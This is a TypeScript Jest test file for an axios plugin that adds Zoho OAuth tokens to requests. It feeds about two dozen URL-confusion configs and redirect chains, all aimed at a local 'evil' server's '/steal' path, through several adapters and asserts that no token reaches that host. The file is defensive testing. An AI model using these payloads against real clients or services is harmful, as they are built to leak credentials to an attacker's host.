import type { ServerResponse } from 'node:http'
import { expect, test } from '@jest/globals'
import axios, { type AxiosAdapter, type AxiosRequestConfig } from 'axios'
import { installZohoAuth } from '../src/index.js'
import { emulate, engine, type Seen, serve } from './support.js'

type Attack = (home: URL, evil: URL) => AxiosRequestConfig

/** Configs that some reader takes to `evil`, and that look like `home` to another. */
const URLS: readonly Attack[] = [
  (home, evil) => ({ baseURL: home.origin, url: `${evil.origin}/steal`, allowAbsoluteUrls: false }),
  (home, evil) => ({ baseURL: `${home.origin}/`, url: `//${evil.host}/steal`, allowAbsoluteUrls: false }),
  (home, evil) => ({
    baseURL: `${home.origin}/v2`,
    url: `HTTP://${evil.host}/steal`,
    allowAbsoluteUrls: false,
  }),
  (_, evil) => ({ baseURL: '/v2', url: `${evil.origin}/steal`, allowAbsoluteUrls: false, zoho: RECRUIT }),
  (_, evil) => ({ baseURL: '/v2', url: `//${evil.host}/steal`, allowAbsoluteUrls: false, zoho: RECRUIT }),
  (_, evil) => ({ url: `//${evil.host}/steal`, zoho: RECRUIT }),
  (_, evil) => ({ url: `/\\${evil.host}/steal`, zoho: RECRUIT }),
  (_, evil) => ({ url: `\\\\${evil.host}/steal`, zoho: RECRUIT }),
  (_, evil) => ({ url: `@${evil.host}/steal`, zoho: RECRUIT }),
  (home, evil) => ({ baseURL: home.origin, url: `${evil.origin}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `//${evil.host}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `\\\\${evil.host}\\steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `/\\${evil.host}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: ` ${evil.origin}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `\t//${evil.host}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `http:\\\\${evil.host}\\steal` }),
  (home, evil) => ({ baseURL: home.origin, url: `/@${evil.host}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: '', params: { '@': evil.host } }),
  (home, evil) => ({ url: `http://${home.host}@${evil.host}/steal` }),
  (home, evil) => ({ baseURL: `http://${home.host}@${evil.host}`, url: '/steal' }),
  (home, evil) => ({ baseURL: `${home.origin}\\@${evil.host}`, url: '/steal' }),
  (home, evil) => ({ url: `${evil.origin}/steal?${home.origin}` }),
  (home, evil) => ({ url: `${evil.origin}/steal#${home.origin}` }),
  (home, evil) => ({ baseURL: evil.origin, url: `${home.origin}/x` }),
  (home, evil) => ({ baseURL: evil.origin, url: `${home.origin}/x`, allowAbsoluteUrls: false }),
  (home, evil) => ({ baseURL: `${evil.origin}/steal`, url: home.host }),
]

/** Redirects that `home` and `evil` answer with. */
const REDIRECTS: readonly Attack[] = [
  ...[301, 302, 303, 307, 308].flatMap((status): Attack[] => [
    (home, evil) => ({ url: `${home.origin}/to?${status}${evil.origin}/steal` }),
    (home, evil) => ({ url: `${home.origin}/to?${status}${evil.origin}/steal`, method: 'post', data: 'x' }),
    (home, evil) => ({ url: `${home.origin}/to?${status}//${evil.host}/steal` }),
    (home, evil) => ({ url: `${home.origin}/to?${status}http://${home.host}@${evil.host}/steal` }),
  ]),
  (home, evil) => ({ url: `${home.origin}/to?302${home.origin}/to?302${evil.origin}/steal` }),
  (home, evil) => ({ url: `${home.origin}/to?302${evil.origin}/to?302${evil.origin}/steal` }),
  (home, evil) => ({ baseURL: home.origin, url: '/to', params: { '302': `${evil.origin}/steal` } }),
]

const RECRUIT = { product: 'recruit' as const }

/** Puts URLs together by the rules of WHATWG, as no axios does. */
const resolving: AxiosAdapter = async (config) => {
  const { url = '', baseURL, method = 'get', data } = config
  const headers = { authorization: String(config.headers.get('authorization') ?? '') }
  const response = await fetch(baseURL ? new URL(url, baseURL) : url, { method, headers, body: data })
  const { status, statusText } = response
  return { data: await response.text(), status, statusText, headers: {}, config }
}

/** As a cache or another wrapper hands a config to axios' own adapter. */
const wrapping =
  (name: 'http' | 'fetch'): AxiosAdapter =>
  (config) =>
    axios.getAdapter([name])({ ...config })

const hasFetch = Number(axios.VERSION.split('.')[1]) >= 7

const ADAPTERS: Record<string, AxiosRequestConfig['adapter']> = {
  http: 'http',
  'a function around http': wrapping('http'),
  'a function with rules of its own': resolving,
  ...(hasFetch ? { fetch: 'fetch', 'a function around fetch': wrapping('fetch') } : {}),
}

function redirecting({ url }: Seen, response: ServerResponse): void {
  const [, status, location] = /^\/to\?(\d{3})=?(.*)$/.exec(url) ?? []
  if (status === undefined) response.end('{"ok":true}')
  else response.writeHead(Number(status), { location: decodeURIComponent(String(location)) }).end()
}

test.each(Object.entries(ADAPTERS))(
  'with the adapter %s no token leaves the list of hosts',
  async (_, adapter) => {
    // allowAbsoluteUrls means nothing to axios before 1.8: the combined URL was judged, and a function adapter sent to the other.
    const emulator = await emulate()
    const [home, evil] = [await serve(redirecting), await serve(redirecting)]
    // The product's host is the emulator, so that relative URLs get a token as well.
    const auth = engine(emulator, { allowedOrigins: [home.url] })
    const client = axios.create({ adapter: adapter as AxiosAdapter })
    installZohoAuth(client, { auth })
    const attacks = [...URLS, ...REDIRECTS].map((attack) => attack(new URL(home.url), new URL(evil.url)))
    for (const attack of attacks) await client.request(attack).catch(() => {})
    const stolen = evil.seen.filter(({ headers }) => JSON.stringify(headers).includes('oauthtoken'))
    expect(stolen).toEqual([])
    // Both were really asked, one of them with tokens.
    expect(evil.seen.length).toBeGreaterThan(10)
    expect(home.seen.filter(({ authorization }) => authorization).length).toBeGreaterThan(20)
  },
)

test('an adapter of the app`s own sees its URLs as they were given where they mean one thing', async () => {
  const emulator = await emulate()
  const client = axios.create()
  installZohoAuth(client, { auth: engine(emulator) })
  const seen: unknown[] = []
  const adapter: AxiosAdapter = async (config) => {
    seen.push([config.baseURL, config.url])
    return { data: '', status: 200, statusText: '', headers: {}, config }
  }
  const { url } = emulator
  await client.get('/recruit/v2/x y', { adapter, baseURL: url })
  await client.get('v2/x', { adapter, baseURL: `${url}/recruit` })
  await client.get(`${url}/recruit/v2/x y`, { adapter })
  await client.get(`${url}/recruit/v2/x y`, { adapter, baseURL: 'http://other.example' })
  expect(seen).toEqual([
    [url, '/recruit/v2/x y'],
    [`${url}/recruit`, 'v2/x'],
    [undefined, `${url}/recruit/v2/x y`],
    [undefined, `${url}/recruit/v2/x%20y`],
  ])
})
